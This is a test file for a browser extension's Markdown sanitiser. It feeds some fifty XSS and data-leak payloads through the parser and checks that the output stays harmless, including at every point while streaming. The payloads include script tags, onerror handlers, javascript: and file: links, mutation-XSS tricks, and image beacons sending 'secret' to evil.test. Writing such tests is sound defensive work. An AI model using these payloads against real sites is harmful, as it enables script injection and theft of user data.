// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { parseMarkdown } from "../../src/sidepanel/markdown/parse-markdown";
import { sanitize } from "../../src/sidepanel/markdown/sanitize";

const HARMLESS_TAGS = new Set(
  ("a b blockquote br code del em h1 h2 h3 h4 h5 h6 hr i kbd li ol p pre s strong sub sup table tbody td th thead tr u ul").split(" "),
);
const HARMLESS_ATTRIBUTES = new Set(["align", "class", "href", "rel", "start", "target", "title"]);

/** Everything in `fragment` that could load, run, submit or look like a part of the panel. */
function dangers(fragment: DocumentFragment): string[] {
  return [...fragment.querySelectorAll("*")].flatMap((element) => {
    const found = HARMLESS_TAGS.has(element.localName) ? [] : [`<${element.localName}>`];
    for (const { name, value } of element.attributes) {
      if (!HARMLESS_ATTRIBUTES.has(name)) found.push(`${element.localName}[${name}]`);
      if (name === "href" && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href ${value}`);
      if (name === "class" && !/^language-[\w+#.-]+$/.test(value)) found.push(`class ${value}`);
    }
    return found;
  });
}

const ATTACKS = [
  `<script>fetch("https://evil.test")</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src="https://evil.test/?q=secret">`,
  `<img src=x onerror=alert(1)>`,
  `![secret](https://evil.test/?q=secret)`,
  `![x](data:image/svg+xml;base64,PHN2Zz4=)`,
  `![x][leak]\n\n[leak]: https://evil.test/?q=secret`,
  `[![x](https://evil.test/a.png)](https://evil.test)`,
  `[click](javascript:alert(1))`,
  `[click](JaVaScRiPt&colon;alert(1))`,
  `[click](&#106;avascript:alert(1))`,
  `[click](java\tscript:alert(1))`,
  `[click](vbscript:x)`,
  `[click](data:text/html,<script>alert(1)</script>)`,
  `[click](chrome-extension://abc/page.html)`,
  `[click](file:///etc/passwd)`,
  `[click](blob:https://evil.test/1)`,
  `[click](//evil.test/x)`,
  `[click](sidepanel.html)`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="https://ok.test" ping="https://evil.test" onclick="alert(1)" style="color:red">x</a>`,
  `<svg onload=alert(1)><image href="https://evil.test/x.png"/></svg>`,
  `<svg><style>@import "https://evil.test/x.css";</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<iframe src="https://evil.test"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.test"></object><embed src="https://evil.test">`,
  `<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video>`,
  `<audio src="https://evil.test/a" autoplay></audio>`,
  `<picture><source srcset="https://evil.test/s"></picture>`,
  `<link rel="stylesheet" href="https://evil.test/x.css"><link rel="prefetch" href="https://evil.test">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
  `<base href="https://evil.test/">`,
  `<style>body{background:url(https://evil.test/x)}</style>`,
  `<p style="background:url(https://evil.test/x)">x</p>`,
  `<table background="https://evil.test/x"><tr><td background="https://evil.test/y">x</td></tr></table>`,
  `<form action="https://evil.test"><input name=q><button>go</button></form>`,
  `<input type="image" src="https://evil.test/x" autofocus onfocus=alert(1)>`,
  `<div class="failure" role="alert" data-testid="error-box">Pay now</div>`,
  `<p class="failure">Pay now</p>`,
  `<code class="language-js failure">x</code>`,
  `<template><img src="https://evil.test/x"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<details ontoggle=alert(1) open><summary>x</summary></details>`,
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```html\n<img src=x onerror=alert(1)>",
  "```\" onload=alert(1) class=\"x\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<img src=\"https://evil.test/?",
  "![x](https://evil.test/",
];

describe("what can come out", () => {
  it.each(ATTACKS)("of the whole way from Markdown is harmless: %s", (markdown) => {
    expect(dangers(sanitize(parseMarkdown(markdown)))).toEqual([]);
  });

  it.each(ATTACKS)("of the sanitiser alone is harmless: %s", (html) => {
    expect(dangers(sanitize(html))).toEqual([]);
  });

  it.each(ATTACKS)("at any moment of streaming is harmless: %s", (markdown) => {
    for (let end = 1; end < markdown.length; end += 1) {
      expect(dangers(sanitize(parseMarkdown(markdown.slice(0, end))))).toEqual([]);
    }
  });
});

function html(markdown: string): string {
  const box = document.createElement("div");
  box.append(sanitize(parseMarkdown(markdown)));
  return box.innerHTML;
}

describe("what must survive", () => {
  it("links, which open elsewhere and show where they lead", () => {
    expect(html("[docs](https://example.test/a?b=1)")).toBe(
      `<p><a href="https://example.test/a?b=1" target="_blank" rel="noopener noreferrer" title="https://example.test/a?b=1">docs</a></p>\n`,
    );
  });

  it("an image as a link that nobody has followed yet", () => {
    const fragment = sanitize(parseMarkdown("![a cat](https://example.test/cat.png)"));
    expect(fragment.querySelector("a")?.textContent).toBe("a cat");
    expect(fragment.querySelector("img")).toBeNull();
  });

  it("HTML as the text it is", () => {
    const fragment = sanitize(parseMarkdown("Use <Foo onClick={x}> and <div>"));
    expect(fragment.textContent.trim()).toBe("Use <Foo onClick={x}> and <div>");
  });

  it("line breaks in table cells, and their alignment", () => {
    const fragment = sanitize(parseMarkdown("| a | b |\n|---|--:|\n| 1<br>2 | 3 |"));
    expect(fragment.querySelector("td br")).not.toBeNull();
    expect(fragment.querySelector("th[align=right]")).not.toBeNull();
  });

  it("the number a list starts with, and the language of code", () => {
    expect(html("3. three")).toContain(`<ol start="3">`);
    expect(html("```c++\nx\n```")).toContain(`class="language-c++"`);
  });

  it("ticked and open tasks", () => {
    expect(sanitize(parseMarkdown("- [x] done\n- [ ] open")).textContent).toMatch(/☑ done[\s\S]*☐ open/);
  });
});
